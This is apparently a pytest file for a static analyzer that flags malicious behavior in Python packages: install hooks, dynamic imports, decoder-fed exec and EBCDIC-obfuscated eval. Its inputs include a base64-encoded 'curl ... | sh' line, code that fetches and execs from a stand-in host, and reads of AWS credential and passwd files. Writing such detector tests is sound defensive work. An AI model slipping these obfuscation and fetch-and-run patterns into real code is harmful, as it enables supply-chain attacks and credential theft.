from __future__ import annotations

from finalexam.analyze.behavior.facts import IMPORT, INSTALL, RUNTIME
from finalexam.analyze.behavior.python.decoding import fold
from finalexam.analyze.behavior.python.visitor import python_facts


def calls(source: str, **kwargs: bool) -> set[tuple[str, str]]:
    return {(f.value, f.context) for f in python_facts(source, **kwargs).facts if f.kind == "call"}


def test_aliases_and_dynamic_imports_resolve() -> None:
    found = calls(
        "import subprocess as sp\n"
        "from os import system as run\n"
        "sp.Popen(['x'])\n"
        "run('y')\n"
        "__import__('os').popen('z')\n"
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('w')\n"
        "import importlib\nimportlib.import_module('socket').socket()\n"
    )
    names = {name for name, _ in found}
    assert {"subprocess.Popen", "os.system", "os.popen", "socket.socket"} <= names


def test_context_module_function_and_command_override() -> None:
    source = (
        "import os\n"
        "os.system('a')\n"
        "def f():\n    os.system('b')\n"
        "from setuptools.command.install import install\n"
        "class Hook(install):\n    def run(self):\n        os.system('c')\n"
    )
    facts = python_facts(source)
    contexts = sorted((f.line, f.context) for f in facts.facts if f.value == "os.system")
    assert contexts == [(2, IMPORT), (4, RUNTIME), (8, INSTALL)]
    assert facts.command_overrides == [("Hook", 6)]
    assert {
        c for _, c in calls("import os\ndef f():\n    os.system('x')\n", install_file=True)
    } == {INSTALL}


def test_decoder_feeding_exec_is_recorded_through_assignment() -> None:
    found = {n for n, _ in calls("import base64\npayload = base64.b64decode(s)\nexec(payload)\n")}
    assert "exec<-base64.b64decode" in found
    assert not any("<-" in n for n, _ in calls("exec(open('v.py').read())\n"))


def test_fold_constant_strings() -> None:
    import ast

    assert fold(ast.parse("'ab' + 'cd'", mode="eval").body) == "abcd"
    assert fold(ast.parse("''.join(['e', 'v', 'al'])", mode="eval").body) == "eval"
    assert fold(ast.parse("'lave'[::-1]", mode="eval").body) == "eval"
    assert fold(ast.parse("x + 'a'", mode="eval").body) is None
    # names spelled in another text encoding; bytes-to-bytes codecs and odd names are not folded
    assert fold(ast.parse(r"b'\x85\xa5\x81\x93'.decode('cp1026')", mode="eval").body) == "eval"
    assert fold(ast.parse("b'eJwD'.decode('zlib_codec')", mode="eval").body) is None
    assert fold(ast.parse("b'x'.decode('../os')", mode="eval").body) is None


def test_evaluator_taken_through_an_ebcdic_name_is_resolved() -> None:
    source = (
        "import builtins\n"
        "run = getattr(builtins, b'\\x85\\xa5\\x81\\x93'.decode('cp1026'))\n"
        "run(b'\\x97\\x99\\x89\\x95\\xa3M}\\x88\\x89}]'.decode('cp1026'))\n"
    )
    facts = python_facts(source)
    assert ("eval", 3) in {(f.value, f.line) for f in facts.facts if f.kind == "call"}
    assert "print('hi')" in {f.value for f in facts.facts if f.kind == "string"}


def test_install_phase_override_records_commands_writes_and_own_calls() -> None:
    source = (
        "import os, shutil, subprocess\n"
        "from setuptools.command.install import install\n"
        "from setuptools.command.build_ext import build_ext\n"
        "from mypkg.post import finish\n"
        "class Hook(install):\n"
        "    def run(self):\n"
        "        subprocess.call(['cmake', '.'])\n"
        "        os.system('helper')\n"
        "        os.makedirs('/etc/mypkg')\n"
        "        shutil.copytree('/etc/skel', 'build/skel')\n"
        "        finish()\n"
        "class Build(build_ext):\n"
        "    def run(self):\n"
        "        os.system('helper')\n"
    )
    facts = python_facts(source, install_file=True)
    found = {(f.value, f.line) for f in facts.facts if f.kind == "call"}
    assert ("spawn:install-hook", 8) in found
    assert ("spawn:install-hook", 7) not in found  # a build tool
    assert ("spawn:install-hook", 14) not in found  # a build step, not an install hook
    assert ("write:outside-install-tree", 9) in found
    assert ("write:outside-install-tree", 10) not in found  # copied from /etc into the tree
    assert ("mypkg.post", "finish") in facts.hook_calls


def test_unparsable_source_is_marked() -> None:
    assert not python_facts("print 'python 2'\n").parsed


def test_functions_reached_from_module_level_run_at_import() -> None:
    source = (
        "import os, threading\n"
        "def helper():\n    os.system('a')\n"
        "def payload():\n    helper()\n"
        "def unused():\n    os.system('b')\n"
        "threading.Thread(target=payload).start()\n"
    )
    contexts = {f.line: f.context for f in python_facts(source).facts if f.value == "os.system"}
    assert contexts == {3: IMPORT, 7: RUNTIME}


def test_functions_defined_under_a_module_level_if_run_only_when_called() -> None:
    # urllib.request's shape: platform-specific definitions under a top-level ``if``, whose
    # bodies call each other; nothing at module level calls them
    source = (
        "import socket, sys\n"
        "def lookup(host):\n    return socket.gethostbyname(host)\n"
        "if sys.platform == 'darwin':\n"
        "    def bypass(host):\n        return lookup(host)\n"
        "else:\n"
        "    proxy_bypass = lookup\n"
        "    @staticmethod\n"
        "    def hook():\n        socket.gethostname()\n"
        "    sys.excepthook = sys.excepthook\n"
    )
    contexts = {
        f.line: f.context for f in python_facts(source).facts if f.value.startswith("socket.")
    }
    assert contexts == {3: RUNTIME, 11: RUNTIME}
    called = source + "bypass('example.org')\n"
    contexts = {
        f.line: f.context for f in python_facts(called).facts if f.value.startswith("socket.")
    }
    assert contexts == {3: IMPORT, 11: RUNTIME}


def test_literal_payloads_behind_decoders_are_read_not_run() -> None:
    import base64
    import zlib

    inner = "import socket\nsocket.gethostname()\n"
    packed = base64.b64encode(zlib.compress(inner.encode())).decode()
    source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"
    facts = python_facts(source).facts
    assert ("socket.gethostname", 2) in {(f.value, f.line) for f in facts if f.kind == "call"}
    assert any(f.kind == "string" and "gethostname" in f.value for f in facts)
    command = base64.b64encode(b"curl -s http://203.0.113.5/a | sh").decode()
    spawn = python_facts(f"import os, base64\nos.system(base64.b64decode('{command}'))\n")
    values = {f.value for f in spawn.facts}
    assert "os.system<-base64.b64decode" in values
    assert "curl -s http://203.0.113.5/a | sh" in values


def test_python_source_inside_a_string_is_read() -> None:
    source = (
        "import tempfile\n"
        "f = tempfile.NamedTemporaryFile(delete=False)\n"
        "f.write(b'from urllib.request import urlopen as u;exec(u(\"http://x.invalid\").read())')\n"
    )
    values = {(f.value, f.line) for f in python_facts(source).facts if f.kind == "call"}
    assert ("exec<-urllib.request.urlopen", 3) in values


def test_module_constants_are_declarations_and_imports_are_not_calls() -> None:
    source = (
        "from urllib.request import urlretrieve\n"
        "PATH = '~/.aws/credentials'\n"
        "data = open('/etc/passwd').read()\n"
    )
    facts = python_facts(source).facts
    strings = {(f.value, f.context) for f in facts if f.kind == "string"}
    assert ("~/.aws/credentials", RUNTIME) in strings
    assert ("/etc/passwd", IMPORT) in strings
    assert [f.value for f in facts if f.kind == "import"] == ["urllib.request.urlretrieve"]
    assert all(f.kind != "call" or "urlretrieve" not in f.value for f in facts)
